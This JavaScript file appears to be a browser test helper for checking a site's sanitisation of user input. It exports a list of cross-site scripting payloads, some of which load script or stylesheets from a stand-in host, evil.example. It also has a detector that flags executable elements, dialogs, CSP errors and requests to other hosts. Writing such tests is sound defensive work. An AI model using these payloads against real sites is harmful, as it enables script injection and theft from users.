// SPDX-License-Identifier: MIT
// What people write into fields so that it runs, and what shows that it did.
export const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](x.png)',
  '[x](https://a.example/"onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
];

// Runs in the page: all that could act.
function active() {
  const bad = [];
  for (const e of document.querySelectorAll('*')) {
    const name = e.localName;
    if (['iframe', 'object', 'embed', 'base'].includes(name)
      || (name === 'script' && e.type !== 'application/ld+json' && !e.src)
      || (name === 'meta' && e.httpEquiv === 'refresh'))
      bad.push(`<${name}>`);
    for (const a of e.attributes)
      if (/^on/i.test(a.name)
        || /^\s*(javascript|vbscript|data):/i.test(a.value.replace(/[\t\n\r]/g, '')))
        bad.push(`<${name} ${a.name}="${a.value}">`);
  }
  return bad;
}

// `look` opens a path of the site; `found` collects what acted there, or asked another host.
export function watch(page, url) {
  const found = [];
  let at;
  page.on('dialog', (d) => {
    found.push(`${at}: dialog ${d.message()}`);
    d.dismiss();
  });
  page.on('request', (r) => {
    if (!r.url().startsWith(url))
      found.push(`${at}: asks ${r.url()}`);
  });
  page.on('console', (m) => {
    if (/Content Security Policy|Content-Security-Policy/.test(m.text()))
      found.push(`${at}: ${m.text()}`);
  });
  const look = async (path) => {
    at = path;
    await page.goto(url + path);
    found.push(...(await page.evaluate(active)).map((what) => `${path}: ${what}`));
  };
  return { found, look };
}
